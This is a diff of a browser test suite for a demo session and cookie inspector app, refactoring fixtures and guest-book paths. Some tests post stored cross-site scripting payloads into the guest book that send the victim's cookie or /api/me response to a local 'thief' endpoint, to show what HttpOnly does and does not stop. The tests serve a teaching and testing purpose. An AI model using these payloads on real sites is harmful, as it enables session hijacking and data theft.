@@ -11,7 +11,7 @@ from playwright.sync_api import BrowserContext, Page, expect
 
 from demo_app import CookieOptions, Server, SessionOptions, create_app, serve
 from tests.browser.looks import cut_off, hard_to_read, luminance, texts
-from tests.browser.site import Site
+from tests.browser.site import Site, serve_under_any_name
 from tests.browser.use import press, wait_until_idle
 
 THEFT = """Nice page <img src=x onerror="fetch('thief?loot=' + encodeURIComponent(document.cookie))">"""
@@ -68,7 +68,7 @@ class TestThePage:
 
     def test_a_cookie_that_the_browser_refuses_is_pointed_out(self, page):
         refused = page.get_by_text("did not send this cookie back")
-        with serve(SessionOptions(name="__Host-id", secret="s")) as server:
+        with serve_under_any_name(SessionOptions(name="__Host-id", secret="s")) as server:
             page.goto(at(server, "shop.example"))
             expect(refused).to_be_hidden()
             press(page, "Visit", "Visit")
@@ -76,7 +76,7 @@ class TestThePage:
             assert card(page, "sid") == "none: no cookie came"
 
     def test_it_works_over_https_too(self, page):
-        with serve(options(secure=True), https=True) as server:
+        with serve_under_any_name(options(secure=True), https=True) as server:
             page.goto(at(server, "shop.example"))
             press(page, "Visit", "Visit")
             assert card(page, "data") == '{"visits":2}'
@@ -141,7 +141,7 @@ class TestInAFrame:
 
     def test_no_other_site_can_frame_it(self, browser):
         outer = browser.new_page()
-        with serve(Site()) as site, serve(options()) as server:
+        with serve_under_any_name(Site()) as site, serve_under_any_name(options()) as server:
             outer.goto(at(site, "other.example"))
             with outer.expect_event("console", lambda message: "frame-ancestors" in message.text):
                 outer.evaluate(self.FRAME, at(server, "shop.example"))
@@ -149,16 +149,16 @@ class TestInAFrame:
 
 
 class TestHowItLooks:
-    @pytest.fixture
-    def server(self):
-        with serve(create_app(options(httponly=False, max_age=3600), guest_book=True)) as running:
-            yield running
+    @pytest.fixture(params=["inspector", "guest book"])
+    def url(self, request):
+        app = create_app(options(httponly=False, max_age=3600), guest_book=True)
+        with serve(app) as running:
+            yield f"{running.url}{'/' if request.param == 'inspector' else app.extensions['guest_book']}"
 
     @pytest.mark.parametrize("scheme", ["light", "dark"])
-    @pytest.mark.parametrize("path", ["/", "/guestbook"])
-    def test_text_stands_out_in_both_themes(self, page, server, scheme, path):
+    def test_text_stands_out_in_both_themes(self, page, url, scheme):
         page.emulate_media(color_scheme=scheme)
-        page.goto(f"{server.url}{path}")
+        page.goto(url)
         body = page.locator("body")
         found = texts(body)
         assert len(found) >= 6
@@ -166,11 +166,10 @@ class TestHowItLooks:
         assert {luminance(ground) < luminance(colour) for _, colour, ground in found} == {scheme == "dark"}
 
     @pytest.mark.parametrize("width", [360, 768, 1280])
-    @pytest.mark.parametrize("path", ["/", "/guestbook"])
-    def test_nothing_is_cut_off(self, page, server, width, path):
+    def test_nothing_is_cut_off(self, page, url, width):
         page.set_viewport_size({"width": width, "height": 740})
-        page.goto(f"{server.url}{path}")
-        if path == "/":
+        page.goto(url)
+        if "guestbook" not in url:
             press(page, "Log in as ada", "Peek")  # the longest values there are
         assert cut_off(page.locator("body")) == []
         assert page.evaluate("document.scrollingElement.scrollWidth") <= width
@@ -181,13 +180,15 @@ class TestTheGuestBook:
     def test_a_thief_gets_what_scripts_can_see(self, browser: BrowserContext, httponly):
         browser.clear_cookies()
         victim = browser.new_page()  # the picture that does not exist is what the browser complains of
-        with serve(create_app(options(httponly=httponly), guest_book=True)) as server:
-            requests.post(f"{server.url}/guestbook", data={"entry": THEFT})
+        app = create_app(options(httponly=httponly), guest_book=True)
+        with serve(app) as server:
+            book = f"{server.url}{app.extensions['guest_book']}"
+            requests.post(book, data={"entry": THEFT})
             victim.goto(server.url)
             press(victim, "Log in as ada")
             with victim.expect_response(re.compile(r"/thief\?loot=")):
-                victim.goto(f"{server.url}/guestbook")
-            (loot,) = requests.get(f"{server.url}/thief/loot").json()
+                victim.goto(book)
+            (loot,) = requests.get(f"{book}thief/loot").json()
             (cookie,) = browser.cookies()
             answer = requests.get(f"{server.url}/api/me", headers={"Cookie": loot})
         victim.close()
@@ -199,14 +200,27 @@ class TestTheGuestBook:
 
     def test_a_script_in_it_acts_for_the_victim_all_the_same(self, browser: BrowserContext):
         """What ``HttpOnly`` does not stop."""
-        entry = "<img src=x onerror=\"fetch('api/me').then(r => r.text()).then(t => fetch('thief?loot=' + t))\">"
+        entry = "<img src=x onerror=\"fetch('/api/me').then(r => r.text()).then(t => fetch('thief?loot=' + t))\">"
         browser.clear_cookies()
         victim = browser.new_page()
-        with serve(create_app(options(), guest_book=True)) as server:
-            requests.post(f"{server.url}/guestbook", data={"entry": entry})
+        app = create_app(options(), guest_book=True)
+        with serve(app) as server:
+            book = f"{server.url}{app.extensions['guest_book']}"
+            requests.post(book, data={"entry": entry})
             victim.goto(server.url)
             press(victim, "Log in as ada")
             with victim.expect_response(re.compile(r"/thief\?loot=")):
-                victim.goto(f"{server.url}/guestbook")
-            assert "ada" in requests.get(f"{server.url}/thief/loot").text
+                victim.goto(book)
+            assert "ada" in requests.get(f"{book}thief/loot").text
         victim.close()
+
+    @pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
+    def test_its_own_form_writes_to_it(self, page, host):
+        app = create_app(options(), guest_book=True)
+        with serve(app) as server:
+            page.goto(f"{at(server, host)}{app.extensions['guest_book']}")
+            page.get_by_label("Your entry").fill("Hello")
+            page.get_by_role("button", name="Sign the guest book").click()
+            expect(page.get_by_role("listitem")).to_have_text("Hello")
+            page.get_by_role("link", name="Session inspector").click()
+            expect(page).to_have_title("Session inspector")
